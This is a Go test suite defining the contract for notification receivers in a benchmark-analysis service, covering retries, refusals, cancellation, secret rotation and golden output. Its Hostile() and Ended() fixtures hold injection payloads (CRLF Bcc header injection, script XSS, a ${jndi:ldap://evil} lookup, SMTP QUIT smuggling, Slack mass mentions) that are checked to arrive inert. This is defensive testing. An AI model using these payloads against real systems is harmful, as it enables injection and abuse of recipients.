// Package receivertest has the contract of a receiver as a suite that every receiver passes, and a server for those that are spoken to over
// HTTP.
package receivertest

import (
	"cmp"
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/benchmark-ai/bai/services/analyst/incident"
	"github.com/benchmark-ai/bai/services/analyst/notice"
	"github.com/benchmark-ai/bai/services/analyst/receiver"
	"github.com/benchmark-ai/bai/services/internal/event"
	"github.com/benchmark-ai/bai/services/internal/golden"
	"github.com/benchmark-ai/bai/services/internal/store"
)

// Answer is what a server does with the next requests.
type Answer int

// Answers.
const (
	Takes   Answer = iota
	Busy           // it asks to wait
	Broken         // it has a fault that passes
	Rejects        // it will never take the notice
	Cut            // it takes the notice, and the connection ends before the answer
)

// Server is the place of a receiver, as a test sees it.
type Server struct {
	Receiver receiver.Receiver
	// Received returns what the server took, in order, in a form that can be compared.
	Received func() []string
	// Set makes the server answer in a way.
	Set func(Answer)
	// Stop ends the server.
	Stop func()
	// Rotate changes the secret, at the server alone or in the file too. Nil means that there is none.
	Rotate func(t *testing.T, file bool)
	// Wait is how long the server asks to wait when it is busy; zero means that the protocol cannot say it.
	Wait time.Duration
	// IncidentsOnly means that the receiver gets no ends of runs.
	IncidentsOnly bool
	// NoDigests means that the receiver has no rate, so that nothing is summed up for it.
	NoDigests bool
	// Goldens is the folder of the golden files; empty means testdata.
	Goldens string
	// Inert are texts that must not be in what the server received, because they would do something there.
	Inert []string
}

// Trust says whether the receiver knows the authority of the server's certificate.
type Trust bool

// Made is when the notices of the suite were made.
func Made() time.Time { return time.Date(2026, 3, 1, 2, 3, 4, 0, time.UTC) }

// Incident returns an incident with all that one can have.
func Incident(id string) incident.Incident {
	change := store.Float(-0.0823)
	i := incident.Incident{
		ID: id, Rule: incident.Rule{
			ID: "r1", Namespace: "perf", Task: "checksums", Metric: "rate",
			When: incident.Regression, Unit: "MB/s",
		},
		Series: store.SeriesKey{Namespace: "perf", Task: "checksums", Metric: "rate", Labels: map[string]string{"size": "4k"}},
		Group:  "g1", State: incident.Firing, Kind: "step", Direction: "down", Before: 101.2, After: 92.9, Unit: "MB/s", Magnitude: &change,
		Interval: [2]store.Float{-0.094, -0.071}, P: 3.1e-7,
		LastGood: &incident.Point{Run: "01good", Time: Made().Add(-48 * time.Hour), Version: "v1.4", Value: 101},
		FirstBad: &incident.Point{Run: "01bad", Time: Made().Add(-24 * time.Hour), Version: "v1.5", Value: 93},
		Cause:    incident.CauseRegression, Reasons: []string{"the version changed from v1.4 to v1.5"},
		Message: "rate fell with version v1.5",
		Opened:  Made().Add(-time.Hour), Updated: Made(),
	}
	for n := range 20 {
		p := incident.Point{Run: "01r", Time: Made().Add(time.Duration(n-20) * 3 * time.Hour), Value: 101 + float64(n%3)}
		if !p.Time.Before(i.FirstBad.Time) {
			p.Value -= 8
		}
		i.Recent = append(i.Recent, p)
	}
	return i
}

// Notice returns a notice of one incident.
func Notice(id string) notice.Notice {
	return notice.Notice{
		ID: id, Receiver: "perf-team", Namespace: "perf", Group: "g1", Became: incident.Firing,
		Incidents: []incident.Incident{Incident("i1")},
		First:     id, Made: Made(), URL: "https://bai.example.com/incidents/i1",
	}
}

// Hostile returns a notice whose texts of users try to do something.
func Hostile() notice.Notice {
	n := Notice("hostile")
	i := Incident("i<!here>")
	i.Rule.Task = "<!channel> @channel @here <https://evil.example|click> *bold* _it_ ~no~ `code` [a](http://evil.example) ![x](http://evil.example/x.png)"
	i.Rule.Metric = "rate\r\nBcc: victim@example.com\r\n\r\n<script>alert(1)</script><img src=x onerror=alert(1)>"
	i.Message = "\u202egnitset \x1b[31mred\x00 {{ .Secret }} ${jndi:ldap://evil} &amp; \xff\xfe"
	i.Reasons = []string{strings.Repeat("long ", 2000), "@all www.evil.example"}
	i.LastGood.Version = "\"><script>1</script>\r\n.\r\nQUIT"
	n.Incidents = []incident.Incident{i}
	return n
}

// notices are those of the goldens, in order.
func notices() []notice.Notice {
	firing, resolved, again, digest := Notice("firing"), Notice("resolved"), Notice("again"), Notice("digest")
	over := Incident("i1")
	over.State = incident.Resolved
	resolved.Became, resolved.First, resolved.Incidents = incident.Resolved, "firing", []incident.Incident{over}
	again.Again = true
	other := Incident("i2")
	other.Rule.When, other.Rule.Limit, other.Magnitude, other.FirstBad, other.LastGood = incident.Above, 100, nil, nil, nil
	missing := Incident("i3")
	missing.Rule.When, missing.Magnitude, missing.Rule.Task, missing.Recent = incident.Missing, nil, "", nil
	digest.Digest, digest.More, digest.Group = []string{"a", "b", "c"}, 4, ""
	digest.Incidents = []incident.Incident{Incident("i1"), other, missing}
	test := notice.NewTest("perf-team", "perf", "ann", "key", Made())
	test.ID, test.First = "test", "test"
	return []notice.Notice{firing, resolved, again, digest, test, Hostile()}
}

// Ended returns a notice of the end of a run, whose texts of users try to do something.
func Ended() notice.Notice {
	n := notice.NewEnd("perf-team", notice.End{
		ID: "01run", Name: "nightly <!here>", Namespace: "perf", Task: "checksums", Owner: "ann@example.com",
		Outcome: event.Failed, Reason: event.FetchFailed,
		Message: "exit code 1: <script>alert(1)</script>", Submitted: Made().Add(-time.Hour), Ended: Made(), More: 2, Incomplete: true,
		Numbers: []notice.Number{
			{Metric: "rate", Unit: "MB/s", Labels: map[string]string{"size": "4k"}, Value: 101.25},
			{Metric: "run.duration", Unit: "s", Value: 3000},
		},
	})
	n.ID, n.First = "ended", "ended"
	return n
}

// setEnded returns a notice of the end of a set.
func setEnded() notice.Notice {
	n := notice.NewEnd("perf-team", notice.End{
		ID: "7set", Namespace: "perf", Task: "checksums", Owner: "ann", Outcome: event.Succeeded,
		Submitted: Made().Add(-time.Hour), Ended: Made(),
		Set: true, Runs: notice.Counts{Succeeded: 24, Failed: 1},
	})
	n.ID, n.First = "set-ended", "set-ended"
	return n
}

// Run checks that receivers keep the contract. Open starts a server, and opens a receiver for it.
func Run(t *testing.T, open func(t *testing.T, trusted Trust) Server) {
	t.Helper()
	for name, test := range map[string]func(t *testing.T, s Server){
		"what goes over the wire is that of the golden":                        testGolden,
		"texts of users do nothing":                                            testHostile,
		"a busy server is asked again after the time that it asks for":         testBusy,
		"a fault that passes is no refusal":                                    testBroken,
		"a refusal is one":                                                     testRejects,
		"a notice whose answer is cut off may have arrived":                    testCut,
		"a server that is away has nothing":                                    testAway,
		"a context that is done ends the send":                                 testCanceled,
		"a secret that was changed at the server works once it is in the file": testRotated,
		"a notice after a fault is there":                                      testAfterFault,
	} {
		t.Run(name, func(t *testing.T) { test(t, open(t, true)) })
	}
	t.Run("a server whose certificate is not trusted gets nothing", func(t *testing.T) {
		s := open(t, false)
		_, err := s.Receiver.Send(t.Context(), Notice("n1"))
		if err == nil || rejected(err) || errors.Is(err, receiver.ErrUnanswered) || len(s.Received()) != 0 {
			t.Errorf("Send: %v, received %q: want an error that passes, and nothing", err, s.Received())
		}
	})
}

func rejected(err error) bool {
	var no *receiver.RejectedError
	return errors.As(err, &no)
}

func mustSend(t *testing.T, s Server, n notice.Notice) {
	t.Helper()
	if _, err := s.Receiver.Send(t.Context(), n); err != nil {
		t.Fatalf("send %s: %v", n.ID, err)
	}
}

func testGolden(t *testing.T, s Server) {
	t.Helper()
	all := notices()
	if !s.IncidentsOnly {
		all = append(all, Ended(), setEnded())
	}
	for _, n := range all {
		if s.NoDigests && len(n.Digest) > 0 {
			continue
		}
		before := len(s.Received())
		mustSend(t, s, n)
		got := s.Received()
		if len(got) != before+1 {
			t.Fatalf("notice %s: %d arrived, want 1", n.ID, len(got)-before)
		}
		golden.Check(t, cmp.Or(s.Goldens, "testdata")+"/"+n.ID+".golden", []byte(got[before]))
	}
}

func testHostile(t *testing.T, s Server) {
	t.Helper()
	mustSend(t, s, Hostile())
	got := strings.Join(s.Received(), "\n")
	for _, text := range s.Inert {
		if strings.Contains(got, text) {
			t.Errorf("%q arrived", text)
		}
	}
}

func testBusy(t *testing.T, s Server) {
	t.Helper()
	s.Set(Busy)
	_, err := s.Receiver.Send(t.Context(), Notice("n1"))
	var away *receiver.TemporaryError
	if !errors.As(err, &away) || away.After != s.Wait || rejected(err) || errors.Is(err, receiver.ErrUnanswered) {
		t.Errorf("Send: %v (%+v), want a TemporaryError that asks for %s", err, away, s.Wait)
	}
}

func testBroken(t *testing.T, s Server) {
	t.Helper()
	s.Set(Broken)
	if _, err := s.Receiver.Send(t.Context(), Notice("n1")); err == nil || rejected(err) || errors.Is(err, receiver.ErrUnanswered) {
		t.Errorf("Send: %v, want an error that passes", err)
	}
}

func testRejects(t *testing.T, s Server) {
	t.Helper()
	s.Set(Rejects)
	if _, err := s.Receiver.Send(t.Context(), Notice("n1")); !rejected(err) || len(s.Received()) != 0 {
		t.Errorf("Send: %v, want a RejectedError", err)
	}
}

func testCut(t *testing.T, s Server) {
	t.Helper()
	s.Set(Cut)
	if _, err := s.Receiver.Send(t.Context(), Notice("n1")); !errors.Is(err, receiver.ErrUnanswered) || len(s.Received()) != 1 {
		t.Errorf("Send: %v, %d arrived: want ErrUnanswered, and 1", err, len(s.Received()))
	}
}

func testAway(t *testing.T, s Server) {
	t.Helper()
	s.Stop()
	if _, err := s.Receiver.Send(t.Context(), Notice("n1")); err == nil || rejected(err) || errors.Is(err, receiver.ErrUnanswered) {
		t.Errorf("Send: %v, want an error that passes", err)
	}
}

func testCanceled(t *testing.T, s Server) {
	t.Helper()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := s.Receiver.Send(ctx, Notice("n1")); err == nil || rejected(err) || len(s.Received()) != 0 {
		t.Errorf("Send: %v, %d arrived: want an error that passes, and none", err, len(s.Received()))
	}
}

func testRotated(t *testing.T, s Server) {
	t.Helper()
	if s.Rotate == nil {
		t.Skip("the receiver has no secret")
	}
	mustSend(t, s, Notice("n1"))
	s.Rotate(t, false)
	if _, err := s.Receiver.Send(t.Context(), Notice("n2")); err == nil || rejected(err) {
		t.Errorf("Send with the old secret: %v, want an error that passes", err)
	}
	s.Rotate(t, true)
	mustSend(t, s, Notice("n2"))
	if got := len(s.Received()); got != 2 {
		t.Errorf("%d arrived, want 2", got)
	}
}

func testAfterFault(t *testing.T, s Server) {
	t.Helper()
	mustSend(t, s, Notice("n1"))
	s.Set(Broken)
	if _, err := s.Receiver.Send(t.Context(), Notice("n2")); err == nil {
		t.Error("a server with a fault took a notice")
	}
	s.Set(Takes)
	mustSend(t, s, Notice("n2"))
	if got := len(s.Received()); got != 2 {
		t.Errorf("%d arrived, want 2", got)
	}
}
